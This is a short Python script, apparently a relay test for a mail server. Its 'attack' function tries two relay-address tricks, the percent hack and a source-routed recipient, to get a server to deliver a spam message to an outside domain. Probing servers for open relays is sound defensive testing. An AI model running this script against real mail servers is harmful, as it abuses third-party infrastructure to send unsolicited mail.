"""Both ways to name another domain behind one of the server's own."""
import socket


def attack(host, port):
    for recipient in ["victim%elsewhere.example@localhost", "@localhost:victim@elsewhere.example"]:
        with socket.create_connection((host, port), 10) as sock, sock.makefile("rwb") as stream:
            stream.readline()
            for line in ["HELO mallory.example", "MAIL FROM:<mallory@example.org>",
                         "RCPT TO:<%s>" % recipient, "DATA", "Subject: cheap watches\r\n\r\nBuy them.\r\n.", "QUIT"]:
                stream.write(line.encode() + b"\r\n")
                stream.flush()
                stream.readline()
